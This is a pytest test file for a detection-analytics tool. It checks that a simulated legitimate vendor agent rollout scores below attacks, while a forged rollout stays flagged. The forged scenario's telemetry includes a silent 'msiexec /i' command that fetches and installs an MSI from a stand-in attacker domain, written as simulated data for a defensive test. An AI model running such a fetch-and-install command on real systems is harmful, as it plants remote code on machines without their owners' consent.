"""A benign vendor agent rollout ranks below the attacks; a forged one does not (task ROLLOUT).

On a simulated fleet with the optional ``vendor_heartbeat_rollout`` (msiexec, started by a service,
installs a new agent from the deployment share on half the fleet; it checks in every 30 min) the
rollout is software the organisation installed (:mod:`analytics.managed_installs`): its first contacts
are the deployment job's schedule, its check-ins the product working and its processes no endpoint
evidence, so it scores as a cluster no feature sets apart (it was just under the attacks, above every
other row), and its checks say why.  A forged
variant added to the same fleet (a script the user opened runs ``msiexec /i http://…`` and the
"agent" heartbeats to a new domain) is no managed deployment and keeps its synchrony.
"""

from __future__ import annotations

import pytest

from analytics.evaluate import match
from graphsiem.simulator import DEFAULT_SCENARIOS
from tests.analytics.simulated import simulated_detection

ROLLOUT = "checkin.patchpilot-cloud.com"
FORGED = "checkin.patchpilot-update.example"
FORGED_SCENARIO = r"""
name: forged_agent_rollout
label: An implant installed by msiexec from a script the user opened, heartbeating like an agent
kind: attack
hosts: {group: workstations, fraction: 0.25, min: 3}
pivot: {type: domain}
activities:
  - name: install
    schedule: {every: once, day: last, at: "11:40", spread_minutes: 15}
    steps:
      - action: process
        parent: explorer
        image: 'C:\Windows\System32\wscript.exe'
        command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\{{user}}\Downloads\PatchPilot_Update.js"'
        indicator: false
      - action: process
        image: 'C:\Windows\System32\msiexec.exe'
        command_line: 'msiexec.exe /i http://patchpilot-update.example/PatchPilotAgent-4.2.msi /qn'
      - action: process
        parent: services
        user: system
        long_running: true
        delay: [20, 90]
        image: 'C:\Program Files\PatchPilot\ppupdate.exe'
        command_line: '"C:\Program Files\PatchPilot\ppupdate.exe" /service'
  - name: heartbeat
    schedule: {every: periodic, days: last, between: ["12:00", "23:59"], interval_minutes: 30, jitter: 0.02}
    steps:
      - action: process
        parent: services
        user: system
        long_running: true
        emit: false
        image: 'C:\Program Files\PatchPilot\ppupdate.exe'
        command_line: '"C:\Program Files\PatchPilot\ppupdate.exe" /service'
      - {action: connect, domain: checkin.patchpilot-update.example, port: 443, bytes_out: [400, 600], bytes_in: [300, 500]}
"""


@pytest.fixture(scope="module")
def fleet(tmp_path_factory):
    root = tmp_path_factory.mktemp("fleet-rollout")
    forged = root / "forged_agent_rollout.yaml"
    forged.write_text(FORGED_SCENARIO, encoding="utf-8")
    result, truth = simulated_detection(root / "fleet", hosts=120, days=2, seed=3, density=0.3,
                                        scenarios=[*DEFAULT_SCENARIOS, "vendor_heartbeat_rollout", str(forged)])
    return [c.to_contract() for c in result.clusters], truth


def _pivoting(clusters, domain):
    (cluster,) = [c for c in clusters if c["pivot"]["value"] == domain]
    return cluster


def test_the_rollout_is_a_managed_deployment_ranked_below_every_attack(fleet):
    clusters, truth = fleet
    rollout = _pivoting(clusters, ROLLOUT)
    assert rollout["features"]["managed_deployment"] == 1.0
    assert rollout["features"]["burst_hosts"] == 0.0
    assert rollout["features"]["repeat_contacts"] == 24.0 and rollout["features"]["repeat_contacts_raw"] > 40
    assert rollout["features"]["source_kinds"] == 1.0
    # as low as the ordinary rows: nothing sets it apart
    assert rollout["score"] <= min(c["score"] for c in clusters) + 0.5
    attacks = [c for c in clusters if (entry := match(c, truth)) is not None and entry.kind == "attack"]
    assert {match(c, truth).name for c in attacks} >= {"seed_campaign", "beaconing", "lateral_movement",
                                                      "forged_agent_rollout"}
    assert min(c["score"] for c in attacks) > rollout["score"]


def test_the_rollouts_checks_say_why_its_synchrony_was_not_scored(fleet):
    clusters, _ = fleet
    rollout = _pivoting(clusters, ROLLOUT)
    text = " ".join(check["check"] for check in rollout["explanation"]["checks"])
    assert "msiexec.exe" in text and r"\\deploy.corp.example\packages\PatchPilotAgent-4.2.msi" in text
    assert "services.exe" in text and "not scored" in text


def test_a_forged_install_from_a_script_keeps_its_synchrony(fleet):
    clusters, _ = fleet
    forged = _pivoting(clusters, FORGED)
    assert forged["features"]["managed_deployment"] == 0.0
    assert forged["features"]["burst_hosts"] > 0
    assert forged["score"] > _pivoting(clusters, ROLLOUT)["score"]
